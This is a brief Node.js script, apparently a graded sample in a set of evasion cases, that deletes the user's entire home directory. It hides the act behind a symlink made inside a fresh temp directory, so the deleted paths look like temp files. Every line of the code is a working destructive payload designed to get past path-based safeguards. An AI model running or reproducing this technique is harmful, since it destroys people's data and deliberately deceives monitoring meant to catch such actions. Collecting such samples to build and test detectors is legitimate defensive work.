// evasion: a symlink to the home directory made inside a fresh temp dir; the delete loop only names paths under the temp dir, which go through the link
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const work = fs.mkdtempSync(path.join(os.tmpdir(), 'cache-'));
const link = path.join(work, 'profile');
fs.symlinkSync(os.homedir(), link, 'dir');

for (const name of fs.readdirSync(link)) {
  fs.rmSync(path.join(link, name), { recursive: true, force: true });
}
fs.rmSync(work, { recursive: true, force: true });
